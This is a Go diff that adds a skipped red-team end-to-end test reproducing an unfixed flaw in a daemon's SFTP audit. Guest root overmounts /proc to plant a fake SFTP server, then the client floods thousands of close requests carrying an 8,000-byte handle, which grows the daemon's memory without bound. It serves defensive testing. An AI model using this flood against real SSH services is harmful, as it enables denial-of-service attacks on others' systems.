@@ -2,7 +2,9 @@ package e2e
 
 import (
 	"archive/tar"
+	"encoding/binary"
 	"fmt"
+	"io"
 	"math/rand/v2"
 	"os"
 	"os/exec"
@@ -10,6 +12,7 @@ import (
 	"strconv"
 	"strings"
 	"testing"
+	"time"
 )
 
 // Red team attacks from inside a guest as its root, found after the first
@@ -217,4 +220,59 @@ func removeGuestTrees(t *testing.T, d *daemon, login string) {
 			t.Logf("removing %s: %v %s", dir, err, out)
 		}
 	}
+}
+
+// TestRedTeamSFTPAuditMemory grows the daemon's memory from alice's own
+// client and guest. Guest root mounts a tmpfs over /proc, so the init's
+// /proc/self/exe (the path it starts the SFTP server from) is a script of
+// the guest's: a server that answers the version and one open, with a
+// handle of 8,000 bytes, and then reads without answering. The client then
+// sends close requests for that handle, each with a new id: the SFTP audit
+// keeps every one (closing, with its handle) until an answer that never
+// comes. Measured by hand: 60,000 requests in 16 s took the daemon from
+// 104 MB to 835 MB; nothing bounds it short of the OOM killer.
+func TestRedTeamSFTPAuditMemory(t *testing.T) {
+	t.Skip("red team finding, not fixed yet: the SFTP audit keeps every close request until its answer (closing map unbounded), and the guest chooses the server")
+	t.Parallel()
+	d := newDaemon(t, daemonOptions{})
+	d.uploadAttacker(t, "alice")
+	d.mustSSH(t, "alice", `mkdir -p /fake && printf '#!/bin/sh\nexec `+attackerPath+` red-sftp-sink 8000\n' > /fake/exe &&
+chmod 755 /fake/exe && mount -t tmpfs none /proc && mkdir /proc/self && cp /fake/exe /proc/self/exe`)
+	r, w := io.Pipe()
+	cmd := exec.Command(sshPath, append(d.sshArgs(d.keyOf(t, "alice"), "alice", "-s"), "sftp")...)
+	cmd.Env, cmd.Stdin = sshEnv(), r
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	go func() {
+		defer w.Close()
+		w.Write(sftpRequest(1, 3, nil))                                            // SSH_FXP_INIT, version 3
+		w.Write(sftpRequest(3, 1, append(sshString("x"), 0, 0, 0, 1, 0, 0, 0, 0))) // SSH_FXP_OPEN x, read
+		time.Sleep(2 * time.Second)                                                // the handle comes back
+		handle := sshString(strings.Repeat("H", 8000))
+		for id := uint32(2); id < 20002; id++ {
+			if _, err := w.Write(sftpRequest(4, id, handle)); err != nil { // SSH_FXP_CLOSE
+				return
+			}
+		}
+		time.Sleep(2 * time.Second)
+	}()
+	if err := cmd.Wait(); err != nil {
+		t.Logf("ssh -s sftp: %v", err)
+	}
+	checkDaemonMemory(t, d)
+}
+
+// sftpRequest frames an SFTP request of type typ: length, type, id (the
+// version for SSH_FXP_INIT), body.
+func sftpRequest(typ byte, id uint32, body []byte) []byte {
+	p := binary.BigEndian.AppendUint32(nil, uint32(5+len(body)))
+	p = append(p, typ)
+	p = binary.BigEndian.AppendUint32(p, id)
+	return append(p, body...)
+}
+
+// sshString is s as an SSH string: its length, then its bytes.
+func sshString(s string) []byte {
+	return append(binary.BigEndian.AppendUint32(nil, uint32(len(s))), s...)
 }
